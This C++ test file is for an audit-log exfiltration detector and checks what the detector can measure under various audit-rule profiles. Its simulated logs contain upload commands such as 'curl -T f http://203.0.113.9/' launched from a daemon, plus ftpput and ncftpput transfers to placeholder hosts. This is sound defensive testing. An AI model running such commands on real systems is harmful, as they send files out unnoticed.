#include "night.hpp"

/// What remains where the rules ask for less. The same two jobs, told by other logs.
namespace auexfil::test {
TEST_CASE("profile: everything") {
  const CronHost log = night({});
  const auto facts = tell(log);
  CHECK(sum(of(facts, kDrop)) == "out 400000 measured");
  CHECK(sum(of(facts, kOther)) == "out 400000 measured");
  CHECK(sum(of(facts, "192.0.2.33")) == "out 262304 measured");
  CHECK(sum(of(facts, "192.0.2.44")) == "out 163840 measured");
  CHECK(coverage_of(log).verdict == coverage::CoverageVerdict::adequate);
}

TEST_CASE("profile: everything, of a log with little else in it") {
  const auto facts = tell(night({}, true));
  CHECK(sum(of(facts, kDrop)) == "out 400000 measured");
  CHECK(sum(of(facts, "192.0.2.33")) == "out 262304 measured");
  // nc writes nothing small, but all the others do.
  CHECK(sum(of(facts, "192.0.2.44")) == "out 163840 measured");
}

TEST_CASE("profile: execve and connect only") {
  const CronHost log = night(only({"execve", "connect"}));
  const auto facts = tell(log);
  CHECK(facts.size() == 4);
  for (const auto& fact : facts) {
    CHECK(fact.basis == transfer::Basis::unknown);
    CHECK_FALSE(fact.bytes_out.has_value());
    CHECK(fact.automation == transfer::Verdict::unattended);
  }
  CHECK(of(facts, kDrop).direction == transfer::Direction::out);
  CHECK(coverage_of(log).verdict == coverage::CoverageVerdict::blind);
}

TEST_CASE("profile: execve and connect only: a number that comes back is where it was") {
  CronHost log("", only({"execve", "connect"}));
  const int daemon = log.daemon(400, "/usr/sbin/sender");
  for (int run = 0; run < 5; ++run) {
    log.fork(daemon, 700);
    log.exec(700, "/usr/bin/dash", {"sh", "-c", "exec nohup curl -T f http://203.0.113.9/"});
    log.exec(700, "/usr/bin/nohup", {"nohup", "curl", "-T", "f", "http://203.0.113.9/"});
    log.exec(700, "/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
    log.tcp(700, 3, kDrop, 80);
    log.pass(60'000);
  }
  const auto facts = tell(log);
  REQUIRE(facts.size() == 5);
  for (const auto& fact : facts) {
    std::vector<std::string> above;
    for (const auto& program : fact.lineage) {
      above.push_back(program.exe);
    }
    CHECK(above == std::vector<std::string>{"/usr/bin/nohup", "/usr/bin/dash", "/usr/sbin/sender"});
  }
}

TEST_CASE("profile: execve and connect only: what runs the same again") {
  // At its start it re-executes itself, with other variables. Later it is another with its number.
  const auto [gap, above] =
      GENERATE(table<int, std::string>({{20, "/usr/bin/curl"}, {60'000, "/usr/bin/dash"}}));
  CAPTURE(gap);
  CronHost log("", only({"execve", "connect"}));
  const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
  log.pass(gap);
  log.exec(curl, "/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
  log.tcp(curl, 3, kDrop, 80);
  CHECK(one(log).lineage.front().exe == above);
}

TEST_CASE("profile: execve and connect only: a stream connects once") {
  const auto [audited, connections] = GENERATE(table<Audited, std::uint64_t>(
      {{only({"execve", "connect"}), 3}, {only({"execve", "connect", "socket"}), 3}}));
  CronHost log("", audited);
  const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
  for (int i = 0; i < 3; ++i) {
    log.tcp(curl, 3, kDrop, 80, -115);  // EINPROGRESS, and once more when it is there
    log.connect(curl, 3, kDrop, 80);
    log.close(curl, 3);
  }
  CHECK(one(log).destinations[0].connections == connections);
}

TEST_CASE("profile: execve only: the command line names the peer") {
  const CronHost log = night(only({"execve"}));
  const auto facts = tell(log);
  const auto fact = of(facts, kDrop);
  CHECK(sum(fact) == "out ? unknown");
  CHECK(fact.tool == "scp");
  CHECK(fact.destinations[0].source == transfer::Source::argv);
  CHECK(sum(of(facts, "192.0.2.33")) == "out ? unknown");
}

TEST_CASE("profile: writes of some programs by exe") {
  const CronHost log = night([](const Called& call) {
    const bool bytes = call.name == "write" || call.name == "sendto" || call.name == "sendfile";
    return !bytes || call.who.exe == "/usr/bin/scp" || call.who.exe == "/usr/bin/ssh";
  });
  const auto facts = tell(log);
  CHECK(sum(of(facts, kDrop)) == "out 400000 measured");
  // Never 0: curl's and nc's writes are asked for by no rule.
  CHECK(sum(of(facts, "192.0.2.33")) == "out ? unknown");
  CHECK_FALSE(of(facts, "192.0.2.44").bytes_out.has_value());
  CHECK(coverage_of(log).verdict == coverage::CoverageVerdict::partial);
}

TEST_CASE("profile: of one program nothing is in the log but that it began") {
  // A 32-bit one where rules are for b64 alone, or -a never,exit with all calls but execve.
  const CronHost log = night(
      [](const Called& call) { return call.who.exe != "/usr/bin/curl" || call.name == "execve"; });
  const auto facts = tell(log);
  const auto fact = of(facts, "192.0.2.33");
  CHECK(sum(fact) == "out ? unknown");
  CHECK(fact.destinations[0].source == transfer::Source::argv);
  CHECK(sum(of(facts, kDrop)) == "out 400000 measured");
}

TEST_CASE("profile: a rule that leaves out the writes of one program") {
  // -a never,exit -S write,sendto,sendfile -F exe=/usr/bin/ssh
  const CronHost log = night([](const Called& call) {
    const bool bytes = call.name == "write" || call.name == "sendto" || call.name == "sendfile";
    return !bytes || call.who.exe != "/usr/bin/ssh";
  });
  const auto facts = tell(log);
  CHECK(sum(of(facts, kDrop)) == "out ? unknown");  // ssh speaks first: never 0
  CHECK(sum(of(facts, "192.0.2.33")) == "out 262304 measured");
}

TEST_CASE("profile: writes by size, in what was done or asked for") {
  const bool by_exit = GENERATE(true, false);
  CAPTURE(by_exit);
  const CronHost log = night([&](const Called& call) {
    const bool bytes = call.name == "write" || call.name == "sendto";
    return !bytes || (by_exit ? call.exit >= 4096 : call.a[2] >= 4096);
  });
  const auto facts = tell(log);
  const auto scp = of(facts, kDrop);
  CHECK(scp.bytes_out.value_or(0) > 390'000);
  CHECK(scp.basis == transfer::Basis::at_least);
  CHECK(sum(of(facts, "192.0.2.44")) == "out 163840 at-least");
}

TEST_CASE("profile: writes by user") {
  const CronHost log = night([](const Called& call) {
    const bool bytes = call.name == "write" || call.name == "sendto";
    return !bytes || (call.who.auid >= 1000 && call.who.auid != kUnset);
  });
  const auto facts = tell(log);
  CHECK(sum(of(facts, kOther)) == "out 400000 measured");
  // root's scp: nothing of its kind is ever seen to write.
  CHECK_FALSE(of(facts, kDrop).bytes_out.has_value());
  CHECK(of(facts, kDrop).basis == transfer::Basis::unknown);
}

TEST_CASE("profile: no close, no dup") {
  const CronHost log = night(all_but({"close", "close_range", "dup2", "fcntl", "openat"}));
  const auto facts = tell(log);
  const auto scp = of(facts, kDrop);
  CHECK(scp.basis == transfer::Basis::estimated);
  CHECK(has_note(scp, "closes are not in the log"));
  CHECK(coverage_of(log).verdict == coverage::CoverageVerdict::partial);
}

TEST_CASE("profile: no close, but open: a new descriptor on the number ends the old one") {
  const CronHost log = night(all_but({"close", "close_range"}));
  const auto scp = of(tell(log), kDrop);
  CHECK(sum(scp) == "out 400000 estimated");
}

TEST_CASE("profile: b64 only, with 32-bit programs about") {
  CronHost log = night([](const Called& call) {
    return call.arch == kX86_64 || call.name == "connect" || call.name == "socket";
  });
  const int put = log.tool("/usr/local/bin/busybox32",
                           {"busybox", "ftpput", "-u", "u", "203.0.113.77", "r", "l"});
  log.arch = kI386;
  log.tcp(put, 3, "203.0.113.77", 21);
  log.write(put, 3, 12);
  log.tcp(put, 4, "203.0.113.77", 40000);
  log.call(put, "sendfile", 500'000, {4, 5, 0, 500'000});
  const auto fact = of(tell(log), "203.0.113.77");
  CHECK(sum(fact) == "out ? unknown");
}

TEST_CASE("profile: success=1: a connect that was still under way is not in the log") {
  const CronHost log = night([](const Called& call) { return call.exit >= 0; });
  const auto facts = tell(log);
  CHECK(sum(of(facts, kDrop)) == "out 400000 measured");
  const auto curl = of(facts, "192.0.2.33");
  CHECK(sum(curl) == "out 262304 estimated");
  CHECK(curl.destinations[0].source == transfer::Source::argv);
  CHECK(has_note(curl, "inferred"));
}

TEST_CASE("profile: success=1, the command line names a host only") {
  CronHost log = night([](const Called& call) { return call.exit >= 0; });
  const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "http://drop.example.org/f"});
  log.socket(curl, 5, 0x801);
  log.connect(curl, 5, "203.0.113.77", 80, -115);
  log.send(curl, 5, 160);
  log.send(curl, 5, 65536);
  log.done(curl, 5);
  bool found = false;
  for (const auto& fact : tell(log)) {
    if (fact.process.pid == static_cast<std::uint32_t>(curl)) {
      found = true;
      CHECK(sum(fact) == "out 65696 estimated");
      CHECK(fact.destinations[0].name == "drop.example.org");
      CHECK_FALSE(fact.destinations[0].address.has_value());
    }
  }
  CHECK(found);
}

TEST_CASE("profile: success=1, and nothing names the peer of what a program sends") {
  CronHost log = night([](const Called& call) { return call.exit >= 0; });
  const int tool = log.tool("/opt/feed/feeder", {"feeder"});
  log.socket(tool, 5, 0x801);
  log.connect(tool, 5, "203.0.113.77", 9000, -115);
  log.send(tool, 5, 160);
  log.send(tool, 5, 900'000);
  log.done(tool, 5);
  bool found = false;
  for (const auto& fact : tell(log)) {
    if (fact.process.pid == static_cast<std::uint32_t>(tool)) {
      found = true;
      CHECK(sum(fact) == "out 900160 estimated");
      CHECK(has_note(fact, "nothing names"));
    }
  }
  CHECK(found);
}

TEST_CASE("profile: execve, and connects of success only, without bytes: tools by command line") {
  const CronHost log = night([](const Called& call) {
    return call.name == "execve" || (call.name == "connect" && call.exit == 0);
  });
  const auto facts = tell(log);
  CHECK(sum(of(facts, kDrop)) == "out ? unknown");
}

TEST_CASE("profile: STIG-like: execve and connect of people only") {
  const CronHost log = night([](const Called& call) {
    return (call.name == "execve" || call.name == "connect") && call.who.auid >= 1000 &&
           call.who.auid != kUnset;
  });
  const auto facts = tell(log);
  CHECK(sum(of(facts, kOther)) == "out ? unknown");
  CHECK(of(facts, kOther).automation == transfer::Verdict::unattended);
  CHECK(to(facts, kDrop).empty());
  const auto coverage = coverage_of(log);
  CHECK(coverage.verdict != coverage::CoverageVerdict::adequate);
  bool told = false;
  for (const std::string& reason : coverage.reasons) {
    told = told || reason.find("daemons") != std::string::npos;
  }
  CHECK(told);
}

TEST_CASE("profile: no execve: programs by exe and title") {
  const CronHost log = night(all_but({"execve"}));
  const auto facts = tell(log);
  const auto fact = of(facts, kDrop);
  CHECK(fact.bytes_out == 400'000U);
}

TEST_CASE("profile: LOGIN's own write is no sign that bytes are audited") {
  const CronHost log = night(only({"execve", "connect", "clone", "socket", "close"}));
  for (const auto& fact : tell(log)) {
    CHECK_FALSE(fact.bytes_out.has_value());
  }
  CHECK_FALSE(coverage_of(log).bytes);
}

TEST_CASE("profile: records lost: never measured where a loss overlaps") {
  CronHost log = night({});
  const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.77/f"});
  log.tcp(curl, 5, "203.0.113.77", 80);
  log.send(curl, 5, 160);
  log.lose(40);
  log.send(curl, 5, 65536);
  log.done(curl, 5);
  const auto facts = tell(log);
  CHECK(sum(of(facts, "203.0.113.77")) == "out 65696 at-least");
  CHECK(sum(of(facts, kDrop)) == "out 400000 measured");
  CHECK(coverage_of(log).verdict == coverage::CoverageVerdict::partial);
}

TEST_CASE("profile: sendfile not audited: an uploader's empty data connection proves nothing") {
  CronHost log = night(all_but({"sendfile"}));
  const int put = log.tool("/usr/bin/ncftpput", {"ncftpput", "-u", "u", "203.0.113.77", "d", "f"});
  log.tcp(put, 3, "203.0.113.77", 21, -115);
  log.write(put, 3, 30);
  log.tcp(put, 5, "203.0.113.77", 40001);
  log.call(put, "sendfile", 8'388'608, {5, 4, 0, 8'388'608});
  log.close(put, 5);
  log.done(put);
  const auto fact = of(tell(log), "203.0.113.77");
  CHECK(fact.basis != transfer::Basis::measured);
  CHECK(fact.direction != transfer::Direction::none);
}

TEST_CASE("profile: writev not audited: a few bytes by write are not all") {
  Log log;
  log.audited = all_but({"writev", "sendmsg"});
  log.fork(1, 900);
  log.exec(900, "/usr/bin/dbclient", {"dbclient", "u@203.0.113.77", "cat > f"});
  log.tcp(900, 3, "203.0.113.77", 22);
  log.write(900, 3, 24);
  for (int i = 0; i < 20; ++i) {
    log.call(900, "writev", 16420, {3, 0x7f, 2});
  }
  log.close(900, 3);
  log.exit(900);
  const auto fact = of(tell(log), "203.0.113.77");
  CHECK(fact.basis == transfer::Basis::at_least);
  CHECK(fact.direction != transfer::Direction::none);
}

TEST_CASE("profile: a call whose record was cut before its pid is lost, and known to be") {
  CronHost log;
  const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
  log.tcp(curl, 3, kDrop, 80);
  log.upload(curl, 3, 200'000);
  log.done(curl);
  log.pass(60'000);
  log.job("true");
  CHECK(sum(one(log)) == "out 200000 measured");
  std::string text = log.text();
  const std::size_t write = text.rfind(" success=yes exit=32804");
  REQUIRE(write != std::string::npos);
  text.erase(write, text.find('\n', write) - write);
  Log cut;
  cut.raw(text);
  CHECK(sum(one(cut)) == "out 167196 at-least");
}

TEST_CASE("profile: a short excerpt claims nothing") {
  const CronHost log = night({});
  std::string excerpt;
  std::size_t at = 0;
  int lines = 0;
  while (at < log.text().size()) {  // what `ausearch -sc connect` leaves
    const std::size_t end = log.text().find('\n', at) + 1;
    const std::string line = log.text().substr(at, end - at);
    if (line.find("syscall=42 ") != std::string::npos ||
        line.find("SOCKADDR") != std::string::npos) {
      excerpt += line;
      ++lines;
    }
    at = end;
  }
  REQUIRE(lines > 8);
  const Told told = tell_host(excerpt);
  for (const auto& fact : told.facts) {
    CHECK(fact.basis == transfer::Basis::unknown);
  }
  const auto seen = told.tracker->tally();
  CHECK(coverage::assess(seen, coverage::visibility_of(seen)).verdict ==
        coverage::CoverageVerdict::blind);
}

}  // namespace auexfil::test
